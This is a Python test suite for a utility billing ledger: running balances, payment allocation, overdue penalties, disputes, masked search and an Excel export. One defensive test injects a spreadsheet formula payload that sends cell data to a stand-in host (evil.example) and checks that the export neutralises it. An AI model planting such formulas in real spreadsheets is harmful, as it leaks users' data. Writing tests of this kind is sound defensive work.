"""The account ledger as staff read it: entries in date order with a running balance, the balance to
date, allocation statuses, credit, overdue amounts, disputes kept out of overdue and penalties, search by
every code, masking, and a consumption place read across a holder change."""

import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from sqlalchemy import text

from core.accounts import allocation, billing
from core.accounts.ledger import (
    EntryKind,
    InvoiceStatus,
    account_ledger,
    find_accounts,
    invoice_detail,
    place_ledger,
)
from core.accounts.ledger_export import ledger_xlsx
from core.accounts.money import format_lei
from core.models import Case, Contract, CreditNote, Customer, InvoiceKind, clock_at
from core.platform.errors import PermissionDenied
from core.platform.search import fold
from core.services.disputes import open_dispute
from core.services.payments import reverse_payment
from core.staff.auth import SYSTEM, customer_actor
from seed_data.builder import build
from tests.factories import (
    ADMIN,
    ANALYST,
    CLERK,
    OLD_HOLDER_CNP,
    SUPERVISOR,
    SUPERVISOR2,
    fire,
    make_account,
    verified_case,
)

MARCH_16 = datetime(2026, 3, 16, 9, 0, tzinfo=UTC)  # "today" for every read below
JAN, FEB_2, FEB = date(2026, 1, 5), date(2026, 2, 2), date(2026, 2, 5)  # issue dates; due 15 days later
FEB_12 = datetime(2026, 2, 12, 9, 0, tzinfo=UTC)  # before February's due dates
JAN_TOTAL, FEB_TOTAL = Decimal("89.54"), Decimal("179.08")  # 100 and 200 kWh at 0.74 lei + 21% VAT


def bill(uow, contract: Contract, issue_date: date, kwh: int) -> int:
    with uow() as u, clock_at(datetime.combine(issue_date, datetime.min.time(), UTC)):
        live = u.session.get(Contract, contract.id)
        last = u.session.execute(text("SELECT max(new_index) FROM invoice WHERE contract_id = :c"),
                                 {"c": contract.id}).scalar() or live.start_index
        invoice = billing.issue_invoice(u.session, issued_by="billing",
                                        contract=live, period_start=issue_date.replace(day=1),
                                        period_end=issue_date, new_index=last + kwh, kind=InvoiceKind.ESTIMATE,
                                        issue_date=issue_date)
        u.commit()
        return invoice.id


def pay(uow, contract: Contract, amount: str, on: date, reference: str, invoice_id: int | None = None) -> int:
    with uow() as u:
        payment = billing.record_payment(u.session, actor=SYSTEM, contract=u.session.get(Contract, contract.id),
                                         amount=Decimal(amount), channel="bank", reference=reference,
                                         paid_at=datetime.combine(on, datetime.min.time(), UTC).replace(hour=10),
                                         invoice_id=invoice_id)
        u.commit()
        return payment.id


def read(uow, contract: Contract, actor=CLERK, on: datetime = MARCH_16, **period):
    with clock_at(on):
        return account_ledger(uow=uow(), actor=actor, contract_id=contract.id, **period)


def two_invoices(uow) -> tuple[Contract, int, int]:
    contract = make_account(uow)
    return contract, bill(uow, contract, JAN, 100), bill(uow, contract, FEB, 200)


def statuses(ledger) -> dict[int, InvoiceStatus]:
    return {s.invoice_id: s.status for s in ledger.invoices}


def test_the_ledger_lists_invoices_and_payments_in_date_order_with_a_running_balance(uow):
    contract = make_account(uow)
    bill(uow, contract, JAN, 100)
    pay(uow, contract, "89.54", date(2026, 1, 12), "P-JAN")
    bill(uow, contract, FEB, 200)
    pay(uow, contract, "100.00", date(2026, 2, 14), "P-FEB")
    ledger = read(uow, contract)
    assert [(e.on, e.kind, e.debit, e.credit, e.balance) for e in ledger.entries] == [
        (JAN, EntryKind.INVOICE, JAN_TOTAL, 0, JAN_TOTAL),
        (date(2026, 1, 12), EntryKind.PAYMENT, 0, Decimal("89.54"), Decimal("0.00")),
        (FEB, EntryKind.INVOICE, FEB_TOTAL, 0, FEB_TOTAL),
        (date(2026, 2, 14), EntryKind.PAYMENT, 0, Decimal("100.00"), Decimal("79.08")),
    ]
    assert [e.reference for e in ledger.entries][1::2] == ["P-JAN", "P-FEB"]


def test_the_balance_to_date_is_invoices_minus_payments_minus_credit_notes(uow):
    contract, jan, feb = two_invoices(uow)
    pay(uow, contract, "50.00", date(2026, 2, 1), "P-1")
    with uow() as u:
        u.session.add(CreditNote(number="NC-2026-000001", contract_id=contract.id, invoice_id=feb,
                                 amount=Decimal("20.00"), reason="Index corectat", issued_by="supervisor",
                                 issued_at=datetime(2026, 2, 25, 10, tzinfo=UTC)))
        u.commit()
        expected = allocation.balance(u.session, contract.id)
    ledger = read(uow, contract)
    assert ledger.balance == JAN_TOTAL + FEB_TOTAL - Decimal("50.00") - Decimal("20.00") == expected
    assert ledger.entries[-1].kind == EntryKind.CREDIT_NOTE and ledger.entries[-1].credit == Decimal("20.00")


def test_a_payment_pays_the_oldest_invoice_first(uow):
    contract = make_account(uow)
    first, second = bill(uow, contract, FEB_2, 100), bill(uow, contract, FEB, 200)
    pay(uow, contract, "100.00", date(2026, 2, 10), "P-1")
    ledger = read(uow, contract, on=FEB_12)
    assert statuses(ledger) == {first: InvoiceStatus.PAID, second: InvoiceStatus.PARTLY_PAID}
    assert ledger.invoices[1].open_amount == FEB_TOTAL - (Decimal("100.00") - JAN_TOTAL)


def test_a_payment_naming_an_invoice_pays_that_one_first(uow):
    contract = make_account(uow)
    first, second = bill(uow, contract, FEB_2, 100), bill(uow, contract, FEB, 200)
    pay(uow, contract, "100.00", date(2026, 2, 10), "P-1", invoice_id=second)
    ledger = read(uow, contract, on=FEB_12)
    assert statuses(ledger) == {first: InvoiceStatus.UNPAID, second: InvoiceStatus.PARTLY_PAID}
    assert [s.open_amount for s in ledger.invoices] == [JAN_TOTAL, FEB_TOTAL - Decimal("100.00")]


def test_an_overpayment_shows_as_credit_and_settles_the_next_invoice(uow):
    contract = make_account(uow)
    jan = bill(uow, contract, JAN, 100)
    pay(uow, contract, "100.00", date(2026, 1, 12), "P-1")
    assert read(uow, contract).balance == Decimal("-10.46")
    feb = bill(uow, contract, FEB, 200)
    ledger = read(uow, contract)
    assert ledger.balance == FEB_TOTAL - Decimal("10.46")
    assert statuses(ledger) == {jan: InvoiceStatus.PAID, feb: InvoiceStatus.OVERDUE}
    assert ledger.invoices[1].open_amount == FEB_TOTAL - Decimal("10.46")


def test_overdue_amount_days_and_penalty_count_from_the_oldest_unpaid_due_date(uow):
    contract, jan, feb = two_invoices(uow)
    ledger = read(uow, contract)
    assert ledger.overdue == JAN_TOTAL + FEB_TOTAL
    assert ledger.days_overdue == (date(2026, 3, 16) - date(2026, 1, 20)).days == 55
    # January: 40 days beyond the grace period, February: 9
    expected = (JAN_TOTAL * Decimal("0.0002") * 40).quantize(Decimal("0.01")) + \
        (FEB_TOTAL * Decimal("0.0002") * 9).quantize(Decimal("0.01"))
    assert ledger.penalty == expected == Decimal("0.72") + Decimal("0.32")
    assert statuses(ledger) == {jan: InvoiceStatus.OVERDUE, feb: InvoiceStatus.OVERDUE}


def test_a_disputed_amount_is_kept_out_of_overdue_and_penalties(uow):
    contract, jan, feb = two_invoices(uow)
    with clock_at(datetime(2026, 2, 20, 9, tzinfo=UTC)):
        open_dispute(uow=uow(), actor=CLERK, invoice_id=feb, form={
            "category": "wrong_reading", "amount": "79.08", "description": "Indexul real este mai mic."})
    ledger = read(uow, contract)
    assert ledger.disputed == Decimal("79.08")
    assert ledger.overdue == JAN_TOTAL + FEB_TOTAL - Decimal("79.08")
    feb_state = ledger.invoices[1]
    assert feb_state.status == InvoiceStatus.DISPUTED and feb_state.disputed == Decimal("79.08")
    assert feb_state.penalty == (Decimal("100.00") * Decimal("0.0002") * 9).quantize(Decimal("0.01"))
    assert ledger.balance == JAN_TOTAL + FEB_TOTAL  # a dispute changes nothing owed until it is upheld


def test_a_dispute_row_on_the_whole_invoice_leaves_it_without_penalty(uow):
    contract, jan, feb = two_invoices(uow)
    with uow() as u:
        u.session.add(Case(registration_number="CTS-2026-000001", case_type="payment_dispute", workflow_version=1,
                           state="opened", created_by="clerk", channel="counter", applicant_name="Popescu Ion",
                           search_name="popescu ion", invoice_id=jan, disputed_amount=JAN_TOTAL, closed_at=None))
        u.commit()
    ledger = read(uow, contract)
    jan_state = ledger.invoices[0]
    assert jan_state.penalty == 0 and jan_state.days_overdue == 0 and jan_state.status == InvoiceStatus.DISPUTED
    assert ledger.overdue == FEB_TOTAL and ledger.days_overdue == (date(2026, 3, 16) - date(2026, 2, 20)).days


def test_a_reversed_payment_is_a_debit_and_the_invoice_is_unpaid_again(uow):
    contract = make_account(uow)
    jan = bill(uow, contract, JAN, 100)
    payment = pay(uow, contract, "89.54", date(2026, 1, 12), "P-1")
    with clock_at(datetime(2026, 1, 14, 9, tzinfo=UTC)):
        reverse_payment(uow=uow(), actor=SUPERVISOR, payment_id=payment, reason="Plată înregistrată greșit")
    ledger = read(uow, contract)
    assert [(e.kind, e.debit, e.balance) for e in ledger.entries][-1] == (
        EntryKind.REVERSAL, Decimal("89.54"), JAN_TOTAL)
    assert statuses(ledger) == {jan: InvoiceStatus.OVERDUE}
    detail = invoice_detail(uow=uow(), actor=CLERK, invoice_id=jan)
    assert [(a.amount, a.is_reversal) for a in detail.allocations] == [(Decimal("89.54"), False),
                                                                       (Decimal("-89.54"), True)]


def test_a_period_shows_its_entries_after_the_balance_brought_forward(uow):
    contract = make_account(uow)
    bill(uow, contract, JAN, 100)
    pay(uow, contract, "50.00", date(2026, 1, 12), "P-1")
    bill(uow, contract, FEB, 200)
    ledger = read(uow, contract, period_from=date(2026, 2, 1), period_to=date(2026, 2, 28))
    opening, february = ledger.entries
    assert opening.kind == EntryKind.OPENING and opening.balance == JAN_TOTAL - Decimal("50.00")
    assert february.on == FEB and february.balance == JAN_TOTAL - Decimal("50.00") + FEB_TOTAL
    assert ledger.balance == february.balance  # figures to date do not depend on the period


def test_an_account_is_found_by_each_of_its_codes_and_by_a_name_typed_without_diacritics(uow):
    contract, jan, _ = two_invoices(uow)
    with uow() as u:
        holder = u.session.get(Customer, contract.customer_id)
        holder.name, holder.search_name = "Ștefănescu Ion", fold("Ștefănescu Ion")
        u.commit()
        invoice_number = u.session.execute(text("SELECT invoice_number FROM invoice WHERE id = :i"),
                                           {"i": jan}).scalar()
    for typed in (contract.payment_code, contract.client_code, contract.client_code.lower(), OLD_HOLDER_CNP,
                  "RO005E512345678", " ro005e512345678 ", invoice_number, "stefanescu", "STEFANESCU ion",
                  "Ștefănescu"):
        found = find_accounts(uow=uow(), actor=CLERK, text=typed)
        assert [r.contract_id for r in found.rows] == [contract.id], typed
    row = found.rows[0]
    assert (row.payment_code, row.client_code, row.pod, row.status, row.holder_name) == (
        contract.payment_code, contract.client_code, "RO005E512345678", "active", "Ștefănescu Ion")
    assert find_accounts(uow=uow(), actor=CLERK, text="C999999999").rows == []
    assert find_accounts(uow=uow(), actor=CLERK, text="   ").rows == []


def test_an_analyst_finds_accounts_by_codes_only_and_reads_them_masked(uow):
    contract, _, _ = two_invoices(uow)
    assert find_accounts(uow=uow(), actor=ANALYST, text="popescu").rows == []
    assert find_accounts(uow=uow(), actor=ANALYST, text=OLD_HOLDER_CNP).rows == []
    row, = find_accounts(uow=uow(), actor=ANALYST, text=contract.payment_code).rows
    assert row.holder_name == "P. I." and row.address == "***, Iași"
    ledger = read(uow, contract, actor=ANALYST)
    assert ledger.holder.name == "P. I." and ledger.holder.national_id == "1*********144"
    assert ledger.holder.email == "i***@example.com" and ledger.holder.correspondence_address == "***, Iași"
    assert ledger.place.address == "***, Iași" and ledger.balance == JAN_TOTAL + FEB_TOTAL
    assert read(uow, contract, actor=ADMIN).holder.name == "P. I."
    assert read(uow, contract).holder.name == "Popescu Ion"


def test_a_customer_cannot_read_a_ledger(uow):
    contract = make_account(uow)
    with pytest.raises(PermissionDenied):
        account_ledger(uow=uow(), actor=customer_actor(), contract_id=contract.id)


def test_a_place_ledger_reads_across_a_holder_change(uow):
    case = verified_case(uow)
    old = case.old_contract_id
    with uow() as u:
        bill(uow, u.session.get(Contract, old), JAN, 100)
    case = fire(uow, case.id, "issue_contract", SUPERVISOR2)
    ledgers = place_ledger(uow=uow(), actor=CLERK, contract_id=case.new_contract_id)
    before, after = ledgers
    assert (before.contract.id, after.contract.id) == (old, case.new_contract_id)
    assert before.contract.status == "closed" and after.contract.status == "active"
    assert before.holder.name == "Popescu Ion" and after.holder.name == "Ionescu Maria"
    final = before.invoices[-1]
    assert final.kind == InvoiceKind.FINAL and before.entries[-1].invoice_id == final.invoice_id
    assert after.entries == [] and after.balance == 0
    assert [c.id for c in after.contracts] == [old, case.new_contract_id]


def test_the_ledger_downloads_as_a_workbook_of_dates_amounts_and_text_that_never_turns_into_formulas(uow):
    contract = make_account(uow)
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    with uow() as u:
        u.session.get(Customer, contract.customer_id).name = hostile
        u.commit()
    bill(uow, contract, JAN, 100)
    pay(uow, contract, "50.00", date(2026, 1, 12), "=SUM(1,2)")
    ws = openpyxl.load_workbook(io.BytesIO(ledger_xlsx(read(uow, contract)))).active
    assert ws["B2"].value == hostile and ws["B2"].data_type == "s"
    assert [c.value for c in ws[10]] == ["Data", "Tip", "Referință", "Detalii", "Debit (lei)", "Credit (lei)",
                                         "Sold (lei)", "Stare factură"]
    invoice, payment = ws[11], ws[12]
    assert invoice[0].is_date and invoice[0].value == datetime(2026, 1, 5) and invoice[0].number_format == "DD.MM.YYYY"
    assert Decimal(str(invoice[4].value)) == JAN_TOTAL and invoice[4].number_format == "#,##0.00"
    assert invoice[7].value == "Restantă"
    assert payment[2].value == "=SUM(1,2)" and payment[2].data_type == "s"
    assert Decimal(str(payment[5].value)) == Decimal("50.00") and Decimal(str(payment[6].value)) == Decimal("39.54")
    assert ws.freeze_panes == "A11" and ws.auto_filter.ref == "A10:H12"
    assert int(ws.column_dimensions["C"].width) == 28  # XlsxWriter adds the cell padding (28.71)


def test_format_lei_writes_romanian_money():
    assert format_lei(Decimal("1234.56")) == "1.234,56 lei"
    assert format_lei(Decimal("-0.5")) == "-0,50 lei"
    assert format_lei(Decimal("1234567")) == "1.234.567,00 lei"


def test_for_every_seeded_contract_the_ledger_balance_is_invoices_minus_payments_minus_credits(uow, engine):
    with clock_at(datetime(2026, 3, 16, 9, 30, tzinfo=UTC)):
        build(engine, accounts=40, cases=15, seed=11)
    with engine.connect() as conn:
        expected = {cid: Decimal(str(owed)).quantize(Decimal("0.01")) for cid, owed in conn.execute(text("""
            SELECT c.id,
                   COALESCE((SELECT SUM(total) FROM invoice i WHERE i.contract_id = c.id), 0)
                 - COALESCE((SELECT SUM(amount) FROM payment p WHERE p.contract_id = c.id), 0)
                 - COALESCE((SELECT SUM(amount) FROM creditnote n WHERE n.contract_id = c.id), 0)
            FROM contract c""")).all()}
    assert len(expected) >= 40
    for contract_id, owed in expected.items():
        ledger = account_ledger(uow=uow(), actor=SUPERVISOR, contract_id=contract_id)
        assert ledger.balance == owed, ledger.contract.number
        assert sum((e.debit - e.credit for e in ledger.entries), Decimal("0")) == owed
